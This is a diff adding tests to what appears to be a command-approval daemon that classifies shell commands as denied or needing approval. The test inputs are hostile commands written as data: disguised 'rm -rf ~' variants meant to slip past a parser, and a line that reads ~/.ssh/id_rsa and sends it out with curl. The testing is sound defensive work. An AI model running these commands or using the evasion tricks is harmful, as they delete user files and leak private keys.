@@ -135,6 +135,18 @@ class Classes(DaemonTest):
         # the request's own stdin is what a bare shell reads
         self.refused("bash", "deny", "floor.rm-home", stdin="rm -rf ~\n")
 
+    def test_3b_tools_reading_commands(self):
+        # tools that read commands from stdin: a typed stream (stdin_open, process.write) asks
+        # like a shell does, and the request's literal stdin is judged in their language
+        self.each([("cat payload.sh | awk -f - /dev/null", "ask", "exec.stdin-code"),
+                   ("cat payload.sh | sed -f - /dev/null", "ask", "exec.stdin-code")])
+        for cmd in ("ed notes.txt", "python3 -m code"):
+            with self.subTest(cmd=cmd):
+                self.refused(cmd, "ask", "exec.stdin-code", stdin_open=True)
+        self.refused("ed -s notes.txt", "deny", "floor.rm-home", stdin="!rm -rf ~\nq\n")
+        self.each([("tmux new-session -d 'rm -rf ~'", "deny", "floor.rm-home"),
+                   ("tmux send-keys 'rm -rf ~' Enter", "deny", "floor.rm-home")])
+
     def test_4_signals_and_power(self):
         pid = self.c.call("daemon.info")["pid"]
         self.each([("kill -9 %d" % pid, "deny", "floor.kill-daemon"),
@@ -176,6 +188,28 @@ class Classes(DaemonTest):
                    ("rm -rf ~/../home", "deny", "floor.rm-home"),
                    ("rm -rf /proc/self/root%s" % self.home, "deny", "floor.rm-home"),
                    ("a=rm; (a=ls); $a -rf ~", "deny", "floor.rm-home")])
+
+    def test_8b_limits_past_the_parser(self):
+        # a limit hides the rest of the command from the parser; the rescan still finds it
+        self.each([("rm -rf %s~" % ("a " * 60000), "deny", "floor.rm-home"),
+                   ("echo %s; rm -rf ~" % ("w " * 60000), "deny", "floor.rm-home"),
+                   ("%srm -rf ~" % ("env A=1 " * 30000), "deny", "floor.rm-home")])
+
+    def test_12_arithmetic_runs_subscripts(self):
+        self.each([("let 'a[$(rm -rf ~)]'", "deny", "floor.rm-home"),
+                   ("x='a[$(rm -rf ~)]'; (( x ))", "deny", "floor.rm-home"),
+                   ("printf -v 'a[$(rm -rf ~)]' x", "deny", "floor.rm-home"),
+                   ("x='$(rm -rf ~)'; echo ${x@P}", "deny", "floor.rm-home"),
+                   ("read x < notes.txt; echo $((x))", "ask", "exec.arith-opaque")])
+
+    def test_13_expansions_and_taint(self):
+        self.each([("rm -rf ~{,}", "deny", "floor.rm-home"),
+                   ("pushd ~; rm -rf ./*", "deny", "floor.rm-home"),
+                   ("for d in ~; do rm -rf $d; done", "deny", "floor.rm-home"),
+                   ("rsync -a --delete /tmp/empty/ ~/", "deny", "floor.rm-home"),
+                   ("unlink ~/.bashrc", "ask", "write.startup"),
+                   ("k=$(cat ~/.ssh/id_rsa); curl -d \"$k\" http://127.0.0.1:9/", "ask",
+                    "net.secret-exfil")])
 
     def test_9_approvals_bind_the_payload(self):
         first = "python3 -c 'import os; os.system(\"touch %s/a9\")'" % self.home
